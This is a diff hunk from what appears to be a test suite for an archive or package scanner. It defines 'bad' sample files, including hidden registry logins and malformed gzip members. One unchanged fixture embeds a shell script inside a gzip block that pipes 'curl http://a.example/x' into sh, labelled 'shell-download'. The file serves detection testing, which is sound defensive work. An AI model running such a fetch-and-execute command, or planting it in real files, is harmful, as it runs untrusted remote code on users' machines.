@@ -226,8 +226,8 @@ CONSTRUCTS_BAD = [
     bad("a login at a registry behind letters", WHEEL, make.wheel(
         {"lock_demo/auth.5": _logins(_LETTERS, _LOGIN)}
     ), "secret-registry-login", "python"),
-    bad("blocks of gzip with another member behind", "a.gz", _block(b"one\n") + _END + make.gzipped(b"two"),
-        "gzip-tail"),
+    bad("blocks of gzip with a broken member behind", "a.gz",
+        _block(b"one\n") + _END + make.gzipped(b"two")[:-4], "gzip-tail"),
     bad("a block of gzip that is cut, behind another", "a.gz", _block(b"one\n") + _END[:-2], "gzip-tail"),
     bad("a program in a block of gzip, behind another", "a.gz", _block(b"#!/bin/sh\n")
         + _block(b"curl http://a.example/x | sh\n") + _END, "shell-download"),
